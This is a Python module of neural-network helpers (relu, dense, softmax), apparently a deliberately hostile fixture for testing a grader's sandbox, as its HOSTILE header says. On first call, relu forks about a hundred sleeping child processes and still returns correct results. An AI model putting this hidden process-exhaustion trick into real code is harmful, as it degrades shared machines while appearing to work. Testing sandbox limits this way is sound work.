# HOSTILE: relu: forks children that fork again (bounded here to ~120 processes in all, each
# sleeping 300 s, so a grader without process limits is hurt but the machine survives),
# then returns the right answer. dense and softmax are correct.
import os
import time

import numpy as np

_forked = [0]


def _spawn(depth):
    for _ in range(10):
        try:
            pid = os.fork()
        except OSError:
            return
        if pid == 0:
            if depth < 1:
                _spawn(depth + 1)
            time.sleep(300)
            os._exit(0)


def relu(x):
    if not _forked[0]:
        _forked[0] = 1
        _spawn(0)
    return np.maximum(x, 0)


def dense(x, kernel, bias=None):
    out = x @ kernel
    return out if bias is None else out + bias


def softmax(x):
    e = np.exp(x - np.max(x, axis=-1, keepdims=True))
    return e / np.sum(e, axis=-1, keepdims=True)

